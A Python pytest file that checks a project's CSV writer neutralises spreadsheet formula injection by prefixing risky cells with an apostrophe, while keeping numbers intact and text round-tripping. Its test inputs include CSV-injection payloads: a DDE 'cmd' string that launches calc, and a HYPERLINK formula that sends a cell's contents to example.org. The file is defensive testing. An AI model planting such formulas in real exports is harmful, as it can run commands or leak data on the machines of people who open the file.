"""What is written as CSV is data in every program that opens it, and comes back as it was."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leakscale.audit.review.decisions import Verdict
from leakscale.audit.review.sheets import read_sheet
from leakscale.csv_text import csv_text, text_of
from leakscale.tables import TableHead

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
)


@dataclass(frozen=True)
class ModelRow:
    """A label, and a number that begins as a formula does."""

    model: str
    change: float


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("label", FORMULAS)
def test_a_label_is_no_formula_in_the_csv_of_a_table(label: str) -> None:
    """A model's name is somebody else's words; a spreadsheet would compute it, and tell an address what it found."""
    table = TableHead("", "models", "Models").filled([ModelRow(label, -0.1), ModelRow("tiny", 1e-05)])

    header, first, second = cells(table.to_csv())

    assert header == ["model", "change"]
    assert first == [f"'{label}", "-0.1"]
    assert text_of(first[0]) == label
    assert second == ["tiny", "1e-05"]


@pytest.mark.parametrize("number", ["-0.1", "+5", "-1e-05", "-inf"])
def test_a_number_stays_one_even_as_a_text(number: str) -> None:
    """An apostrophe would keep it out of every sum."""
    assert csv_text([[number]]) == f"{number}\n"


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")) | st.sampled_from(FORMULAS), min_size=1, max_size=3)))
def test_every_text_comes_back(rows: list[list[str]]) -> None:
    """One that begins with an apostrophe of its own, too."""
    guarded = [[f"'{cell}" for cell in row] for row in rows]

    for written in (rows, guarded):
        found = cells(csv_text(written))
        assert [[text_of(cell) for cell in row] for row in found] == written
        assert not any(cell.startswith(("=", "@")) for row in found for cell in row)


def test_a_note_of_a_review_sheet_comes_back(tmp_path: Path) -> None:
    """The sheet is filled in with a spreadsheet, which keeps the apostrophe."""
    rows = [("form", "verdict", "note"), ("q1/fresh-1", "reject", "=adds a number")]
    (tmp_path / "sheet.csv").write_text(csv_text(rows), encoding="utf-8")

    assert "'=adds" in (tmp_path / "sheet.csv").read_text(encoding="utf-8")
    assert read_sheet(tmp_path / "sheet.csv") == {"q1/fresh-1": (Verdict.REJECT, "=adds a number")}
